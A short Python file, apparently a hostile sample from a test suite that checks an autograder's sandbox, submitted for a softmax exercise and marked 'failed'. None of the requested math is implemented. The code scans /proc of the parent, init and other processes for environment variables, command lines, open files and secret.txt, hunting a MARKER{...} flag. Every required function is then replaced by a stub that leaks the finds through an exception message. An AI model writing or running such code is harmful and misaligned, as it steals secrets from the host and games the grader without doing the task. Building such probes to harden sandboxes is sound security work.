# verdict: failed
# exercise: exercise07_softmax
# example: /proc
# Reads what the kernel tells of every process: command line, environment, folder, maps, open files, mounts.

import os
import re

FOUND = []


def read(path):
    try:
        number = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # among the open files of others are pipes
        try:
            return os.read(number, 1 << 16)
        finally:
            os.close(number)
    except OSError:
        return b""


for name in ["@PARENT@", "@COMMAND@", str(os.getppid()), "1", "self", *range(2, 40)]:
    for what in ("environ", "cmdline", "mountinfo", "cwd/secret.txt", "root@COURSE@/secret.txt", "fd/3", "task/1/environ"):
        FOUND += re.findall(rb"MARKER\{[^}\\]+\}", read(f"/proc/{name}/{what}"))


def attack(*_args, **_kwargs):
    raise RuntimeError(f"found {FOUND}")


logsumexp = softmax = log_softmax = softmax_backward = log_softmax_backward = attack
